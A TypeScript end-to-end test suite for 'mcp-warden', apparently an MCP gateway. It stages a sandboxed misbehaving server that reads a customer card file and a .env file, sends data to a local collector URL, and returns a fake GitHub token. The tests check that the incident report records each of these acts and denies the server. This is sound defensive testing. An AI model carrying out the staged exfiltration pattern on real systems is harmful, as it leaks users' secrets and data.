// End to end: a misbehaving server behind the real `mcp-warden run` (sandboxed by real bubblewrap,
// its connections through the real egress proxy) reads files, calls an egress host on 127.0.0.1 and
// returns a token; then `mcp-warden incident bad --deny --json` reports each of those facts, the
// variables to rotate and the audit log's status, and the server is denied afterwards. Also: an
// unknown name is a usage error that changes nothing, and a log of 100,000 records is reported
// under a heap too small to hold it.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { AuditLog } from "../../src/audit/index.js";
import type { IncidentReport } from "../../src/incident/report.js";
import { backendAvailability } from "../../src/sandbox/launch.js";
import { CLI, cli, connect, FIXTURE, ROOT, scratch, type Scratch } from "./harness.js";

const MISBEHAVING = join(ROOT, "dist/test/fixtures/misbehaving-server.js");
/** The token misbehaving-server's get_config returns. */
const TOKEN = `ghp_${"A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"}`;
const available = process.platform === "linux" ? backendAvailability("bubblewrap") : { ok: false as const, why: "not Linux", install: "" };

describe("mcp-warden incident after a misbehaving server's session", { skip: available.ok ? false : `bubblewrap unavailable: ${available.why}`, timeout: 120_000 }, () => {
  let s: Scratch;
  let web: http.Server;
  let port: number;
  const asked: string[] = [];
  let report: IncidentReport;
  let incident: { code: number | null; stdout: string; stderr: string };

  before(async () => {
    web = http.createServer((req, res) => {
      asked.push(req.url ?? "");
      res.end("received");
    });
    web.listen(0, "127.0.0.1");
    await once(web, "listening");
    port = (web.address() as AddressInfo).port;

    s = scratch({});
    s.env.BAD_API_KEY = "bad-api-key-value-0123456789";
    const settings = {
      permissions: { allow: ["mcp__bad", "mcp__helper__echo"] },
      mcpServers: {
        bad: {
          command: process.execPath,
          args: [MISBEHAVING],
          env: { BAD_API_KEY: "${BAD_API_KEY}", LOG_LEVEL: "debug", DATABASE_PASSWORD: "database-password-value" },
          sandbox: { type: "bubblewrap", filesystem: { allowRead: [s.project, join(ROOT, "dist/test/fixtures")] }, network: { allowLocalhost: true } },
        },
        helper: { command: process.execPath, args: [FIXTURE] },
      },
      audit: { dir: s.auditDir, fsyncIntervalMs: 50 },
      gateway: { logDir: s.logDir },
      approvals: { page: false },
    };
    writeFileSync(s.settingsFile, JSON.stringify(settings, null, 2));
    writeFileSync(join(s.project, "customers.csv"), "name,card\nada,4111\n");
    writeFileSync(join(s.project, ".env"), "DB_PASSWORD=x\n");

    const c = await connect(s);
    try {
      const call = async (name: string, args: Record<string, unknown>) => {
        const r = await c.client.callTool({ name, arguments: args });
        assert.ok(!r.isError, `${name}: ${JSON.stringify(r)}`);
        return JSON.stringify(r.content);
      };
      assert.match(await call("bad__read_file", { path: join(s.project, "customers.csv") }), /ada,4111/);
      await call("bad__read_file", { path: join(s.project, ".env") });
      assert.match(await call("bad__fetch_url", { url: `http://127.0.0.1:${port}/collect?d=customers` }), /200 received/);
      // The gateway redacts the token on its way to the client, and records that it saw one.
      assert.match(await call("bad__get_config", {}), /\[REDACTED:github-token\]/);
      await call("helper__echo", { text: "the model passes the data on" });
    } finally {
      await c.close();
    }
    assert.deepEqual(asked, ["/collect?d=customers"], "the egress host was really reached");

    incident = cli(s, ["incident", "bad", "--deny", "--json", "--settings", s.settingsFile]);
    report = JSON.parse(incident.stdout) as IncidentReport;
  });

  after(() => {
    web?.closeAllConnections();
    web?.close();
    s?.cleanup();
  });

  it("writes the report, exit 0, with the audit log verified intact", () => {
    assert.equal(incident.code, 0, incident.stderr);
    assert.equal(report.auditLog.status, "intact");
    assert.deepEqual(report.problems, []);
  });

  it("reviews the calls by tool and decision", () => {
    const calls = Object.fromEntries(report.review.tools.items.map((t) => [t.tool, [t.calls, t.decisions.allow, t.outcomes.ok]]));
    assert.deepEqual(calls, { "mcp__bad__read_file": [2, 2, 2], "mcp__bad__fetch_url": [1, 1, 1], "mcp__bad__get_config": [1, 1, 1] });
    assert.equal(report.review.sessions.items.length, 1);
  });

  it("lists the files it read, the egress host it reached and the token's kind, never the token", () => {
    const paths = report.exposure.paths.items.map((p) => [p.path, p.access, p.allowed]);
    assert.deepEqual(paths, [
      [join(s.project, ".env"), "read", 1],
      [join(s.project, "customers.csv"), "read", 1],
    ]);
    const egress = report.exposure.egress.items.map((e) => [e.host, e.port, e.allowed]);
    assert.deepEqual(egress, [["127.0.0.1", port, 1]]);
    assert.deepEqual(
      report.exposure.secrets.items.map((x) => [x.kind, x.where, x.tool]),
      [["github-token", "result", "mcp__bad__get_config"]],
    );
    assert.ok(!incident.stdout.includes(TOKEN.slice(4)), "the token itself is nowhere in the report");
    assert.ok(!incident.stdout.includes("bad-api-key-value") && !incident.stdout.includes("database-password-value"), "nor the env values");
  });

  it("names the other server active in the same session", () => {
    assert.deepEqual(
      report.exposure.sameSessions.servers.items.map((c) => [c.server, c.calls]),
      [["helper", 1]],
    );
  });

  it("lists the variables to rotate, by name", () => {
    const creds = Object.fromEntries(report.credentials.items.map((c) => [c.name, [c.where, c.action]]));
    assert.deepEqual(creds.BAD_API_KEY, ["env", "rotate this"]);
    assert.deepEqual(creds.DATABASE_PASSWORD, ["env", "rotate this"]);
    assert.equal(creds.LOG_LEVEL?.[1], "rotate this if it is a credential (its name does not say so)");
    assert.deepEqual(creds["github-token"], ["token seen in traffic", "rotate this"]);
    assert.match(report.credentials.items.find((c) => c.name === "BAD_API_KEY")!.detail, /host variable BAD_API_KEY/);
  });

  it("names the rule that allowed the calls, and the change it applied", () => {
    assert.deepEqual(
      report.policy.allowingRules.items.filter((r) => r.rule).map((r) => [r.rule, r.file, r.calls]),
      [["mcp__bad", s.settingsFile, 4]],
    );
    assert.equal(report.contain.containment.ok, true);
    assert.equal(report.policy.after?.decision, "deny");
  });

  it("the server is denied afterwards: servers list says so, and a new gateway does not start it", async () => {
    const listed = JSON.parse(cli(s, ["servers", "list", "--json", "--settings", s.settingsFile]).stdout) as { servers: { name: string; disabled: boolean; decision: string; reason: string }[] };
    const bad = listed.servers.find((x) => x.name === "bad")!;
    assert.deepEqual([bad.disabled, bad.decision], [true, "deny"]);
    assert.match(bad.reason, /deniedMcpServers/);
    const c = await connect(s);
    try {
      const tools = (await c.client.listTools()).tools.map((t) => t.name);
      assert.ok(tools.includes("helper__echo"), tools.join(","));
      assert.ok(!tools.some((t) => t.startsWith("bad__")), tools.join(","));
    } finally {
      await c.close();
    }
  });

  it("Markdown by default, with the five steps", () => {
    const md = cli(s, ["incident", "bad", "--settings", s.settingsFile]);
    assert.equal(md.code, 0, md.stderr);
    for (const step of ["## 1. Contain", "## 2. Review", "## 3. Exposure", "## 4. Credentials", "## 5. Policy"]) assert.ok(md.stdout.includes(step), step);
    assert.ok(!md.stdout.includes(TOKEN.slice(4)));
  });
});

describe("mcp-warden incident: usage and scale", { timeout: 180_000 }, () => {
  it("an unknown server is exit 2, says what to do, and changes nothing", () => {
    const s = scratch({ mcpServers: { real: { command: process.execPath, args: [FIXTURE] } } });
    try {
      const before = readFileSync(s.settingsFile, "utf8");
      const r = cli(s, ["incident", "nosuch", "--deny", "--settings", s.settingsFile]);
      assert.equal(r.code, 2, r.stderr);
      assert.equal(r.stdout, "");
      assert.match(r.stderr, /no server named 'nosuch' is configured, and the audit log has no record of it/);
      assert.match(r.stderr, /mcp-warden servers list/);
      assert.equal(readFileSync(s.settingsFile, "utf8"), before);
      const bad = cli(s, ["incident", "real", "--since", "yesterday", "--settings", s.settingsFile]);
      assert.equal(bad.code, 2);
      assert.match(bad.stderr, /invalid time "yesterday": use ISO-8601/);
      const both = cli(s, ["incident", "real", "--remove", "--disable", "--settings", s.settingsFile]);
      assert.equal(both.code, 2);
      assert.match(both.stderr, /choose one of --remove and --disable/);
      const name = cli(s, ["incident", "a__b", "--settings", s.settingsFile]);
      assert.equal(name.code, 2);
      assert.match(name.stderr, /'a__b' is not a server name \(.*never contains '__'\)/);
      assert.equal(readFileSync(s.settingsFile, "utf8"), before, "none of these changed the settings");
    } finally {
      s.cleanup();
    }
  });

  it("reports on a log of 100,000 records with a heap too small to hold them", () => {
    const s = scratch({});
    try {
      const log = AuditLog.open({ dir: s.auditDir, fsyncIntervalMs: 60_000 });
      const principal = { subject: "me", method: "local" };
      const N = 100_000;
      let calls = 0;
      for (let i = 0; i < N; i++) {
        if (i % 100 === 99) {
          log.append({ kind: "request", event: "egress", server: "big", decision: "allow", detail: { host: `h${i % 7}.example`, port: 443, protocol: "http-connect" } });
        } else if (i % 2 === 0) {
          calls++;
          log.append({ kind: "call", event: "decided", id: `c${i}`, principal, server: "big", tool: "mcp__big__read_file", method: "tools/call", arguments: { path: `/data/part-${i % 5000}/file.txt`, note: "x".repeat(200) }, decision: "allow", rule: "mcp__big" });
        } else {
          log.append({ kind: "call", event: "completed", id: `c${i - 1}`, principal, server: "big", tool: "mcp__big__read_file", method: "tools/call", outcome: "ok", durationMs: 3 });
        }
      }
      log.close();
      // About 40 MB of log; as parsed objects several times that. 64 MB of heap holds a page of it, not all.
      const r = spawnSync(process.execPath, ["--max-old-space-size=64", CLI, "incident", "big", "--json", "--settings", s.settingsFile], {
        cwd: s.project,
        env: s.env,
        encoding: "utf8",
        timeout: 150_000,
        maxBuffer: 64 * 1024 * 1024,
      });
      assert.equal(r.status, 0, r.stderr);
      const report = JSON.parse(r.stdout) as IncidentReport;
      assert.equal(report.auditLog.status, "intact");
      assert.equal(report.review.recordsRead, N + 1, "every record, and the segment-start");
      assert.equal(report.review.calls, calls);
      assert.deepEqual(report.review.tools.items.map((t) => [t.tool, t.calls, t.outcomes.ok]), [["mcp__big__read_file", calls, N - calls - N / 100]]);
      assert.equal(report.exposure.paths.items.length, 200, "the list is bounded");
      assert.equal(report.exposure.paths.omitted, 2000);
      assert.equal(report.exposure.paths.omittedAtLeast, true);
      assert.deepEqual(report.exposure.egress.items.map((e) => e.host), ["h0.example", "h1.example", "h2.example", "h3.example", "h4.example", "h5.example", "h6.example"]);
      assert.ok(r.stdout.length < 500_000, `the report stays small (${r.stdout.length} bytes)`);
    } finally {
      s.cleanup();
    }
  });
});
